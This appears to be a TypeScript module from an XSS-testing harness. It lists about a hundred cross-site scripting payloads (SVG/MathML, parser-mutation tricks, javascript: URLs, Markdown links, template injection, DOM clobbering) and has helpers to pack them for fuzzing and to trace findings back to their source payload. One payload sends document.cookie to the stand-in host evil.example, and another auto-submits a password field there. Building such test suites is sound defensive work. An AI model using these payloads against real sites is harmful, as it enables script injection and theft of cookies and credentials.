/** Texts that would run, load, lead away or take a place of the page where they are taken for HTML, Markdown, a script or an address. */
import { oddStrings, xssPayloads } from "./data.ts";

const AWAY = "https://evil.example";
const SEPARATORS = ["\u2028", "\u2029"];

/** Families that public collections are thin on; each calls `pwned`, asks evil.example or leaves an element with the name `xss-own`. */
const OWN_PAYLOADS: readonly string[] = [
  // SVG and MathML
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='pwned()'/></svg>#x"></use></svg>`,
  `<svg><image href="${AWAY}/svg-image"/></svg>`,
  "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
  "<svg><a xlink:href=javascript:pwned()><text y=20>click</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'></table></mtext></math>",
  "<math href=javascript:pwned()>click</math>",
  // Text that becomes another when it is parsed again
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
  "<template><s><img src=x onerror=pwned()></s></template>",
  "<select><template><img src=x onerror=pwned()></template></select>",
  "<xmp><p title='</xmp><img src=x onerror=pwned()>'>",
  "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
  "&lt;img src=x onerror=pwned()&gt;",
  "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "<img src=x onerror\u0000=pwned()>",
  "<scr\u0000ipt>pwned()</scr\u0000ipt>",
  "<\u017fcript>pwned()</\u017fcript>",
  "＜script＞pwned()＜/script＞",
  "<!--><img src=x onerror=pwned()>-->",
  "<!-- --!><img src=x onerror=pwned()>",
  "<![CDATA[><img src=x onerror=pwned()>]]>",
  "<?xml-stylesheet href=javascript:pwned()?><img src=x onerror=pwned()>",
  // Frames, the document, what loads
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  `<iframe src="${AWAY}/frame"></iframe>`,
  "<object data=javascript:pwned()></object><embed src=javascript:pwned()>",
  `<meta http-equiv=refresh content="0;url=${AWAY}/refresh">`,
  `<base href="${AWAY}/base/">`,
  `<link rel=stylesheet href="${AWAY}/link.css"><link rel=prefetch href="${AWAY}/prefetch">`,
  `<style>@import "${AWAY}/import.css"; *{background:url(${AWAY}/background)}</style>`,
  `<p style="background:url('${AWAY}/style')">styled`,
  `<img src="${AWAY}/pixel" srcset="${AWAY}/pixel2 2x">`,
  `<video poster="${AWAY}/poster"><source src="${AWAY}/video" onerror=pwned()></video>`,
  `<audio src=x onerror=pwned()></audio>`,
  `<input type=image src="${AWAY}/input" onerror=pwned()>`,
  `<body background="${AWAY}/body" onload=pwned()>`,
  `<script src="${AWAY}/script.js"></script>`,
  `<script type=module>import "${AWAY}/module.js"</script>`,
  `<script>fetch("${AWAY}/fetch?"+document.cookie)</script>`,
  `<form action="${AWAY}/form"><input name=password autofocus onfocus=this.form.submit()></form>`,
  `<button form=reply-form formaction="${AWAY}/button">Send</button>`,
  // Attributes and events
  '" autofocus tabindex=0 onfocus=pwned() x="',
  "' autofocus tabindex=0 onfocus=pwned() x='",
  "<details open ontoggle=pwned()>",
  "<div style=animation-name:x onanimationstart=pwned() onanimationend=pwned()>",
  "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=pwned()>",
  "<marquee onstart=pwned()>",
  "<p onpointerrawupdate=pwned() onscrollend=pwned() oncontentvisibilityautostatechange=pwned()>",
  // Addresses
  "javascript:pwned()//https://a.example",
  "java\tscript:pwned()",
  "\u0001javascript:pwned()",
  "JaVaScRiPt&colon;pwned()",
  "vbscript:pwned()",
  "data:text/html,<script>pwned()</script>",
  "<a href='jav&#x09;ascript:pwned()'>click</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+' target=_self>click</a>",
  // Markdown and addresses that are recognised
  "[click](javascript:pwned())",
  "[click](<java\nscript:pwned()>)",
  "[click](vbscript:pwned() 'title')",
  '[click](https://a.example/"onmouseover="pwned())',
  "[a][x]\n\n[x]: javascript:pwned()",
  "<javascript:pwned()>",
  `![picture](${AWAY}/markdown)`,
  '![a"onerror="pwned()](x)',
  "![x](x){onerror=pwned()}",
  "```<img src=x onerror=pwned()>\n<script>pwned()</script>\n```",
  '```"><img src=x onerror=pwned()>\ncode\n```',
  "> <img src=x onerror=pwned()>\n\n1. <svg onload=pwned()>",
  "https://a.example/'onmouseover='pwned()'",
  'https://a.example/"><img src=x onerror=pwned()>',
  "mailto:a@b.example?body=<script>pwned()</script>",
  "www.a.example/`onmouseover=`pwned()",
  // Templates and scripts
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}",
  "`+pwned()+`",
  "<%= pwned() %>",
  "#{pwned()}",
  "{requester.firstName|<img src=x onerror=pwned()>}",
  "{brand}{constructor}{__proto__}",
  "</script><script>pwned()</script>",
  "</SCRIPT ><svg onload=pwned()>",
  "<!--<script>",
  "]]></script><script>pwned()//",
  "'-pwned()-'",
  '"-pwned()-"',
  "\\'-pwned()//",
  ...SEPARATORS.map((sign) => `${sign}pwned()${sign}`),
  ...SEPARATORS.map((sign) => `//${sign}</script><img src=x onerror=pwned()>`),
  "</title><script>pwned()</script>",
  "</textarea><img src=x onerror=pwned()>",
  "</style><img src=x onerror=pwned()>",
  "</iframe></noscript></select></svg></math></template><img src=x onerror=pwned()>",
  // Names of the page taken by elements
  "<a id=xss-own name=defaultView></a><form id=xss-own name=body><input id=xss-own name=attributes></form>",
  "<img id=xss-own name=getElementById><img id=xss-own name=cookie>",
  // What hides or turns round
  "\u202egpj.<img src=x onerror=pwned()>\u2066",
  "\ufeff<script>pwned()</script>",
  "\u200b<img src=x onerror=pwned()>",
  "<xss-own>an element of nobody</xss-own><blink>unknown</blink>",
  // Lines of mails and answers
  'a"><img src=x onerror=pwned()>@evil.example',
  "x\r\nContent-Type: text/html\r\n\r\n<script>pwned()</script>",
  "?=<script>pwned()</script>=?=",
  "report.html\"; filename*=UTF-8''<img src=x onerror=pwned()>.html",
];

/** All there are: our own first, then those of the collections and their odd strings. */
export async function allPayloads(): Promise<string[]> {
  const odd = (await oddStrings()).filter((text) => text.isWellFormed() && text.length <= 2_000 && text.trim() !== "");
  return [...new Set([...OWN_PAYLOADS, ...(await xssPayloads()), ...odd])];
}

/**
 * Payloads put together as texts of at most so many characters; a longer payload is cut, for its beginning may be all it needs.
 * Parted by a blank they make one line, as names and subjects are: line ends in them become blanks.
 */
export function packs(payloads: readonly string[], most: number, between = " "): string[] {
  const all: string[] = [];
  let pack = "";
  const unfit = between === " " ? /[\p{Cc}\u2028\u2029]+/gu : /\0/g;
  for (const payload of payloads) {
    const text = payload.replaceAll(unfit, " ").trim().slice(0, most).toWellFormed();
    if (pack !== "" && pack.length + between.length + text.length > most) {
      all.push(pack);
      pack = "";
    }
    pack += pack === "" ? text : between + text;
  }
  return pack === "" ? all : [...all, pack];
}

/** The payload that something found in a page came from: the one most of whose words stand in it. */
export function payloadOf(found: string, payloads: readonly string[]): string {
  let best = { payload: "", score: 0 };
  for (const payload of payloads) {
    const words = payload.split(/[\s<>"'`=]+/).filter((word) => word.length > 2);
    const score = words.filter((word) => found.includes(word)).join("").length - words.join("").length / 4;
    if (score > best.score) best = { payload, score };
  }
  return best.payload;
}
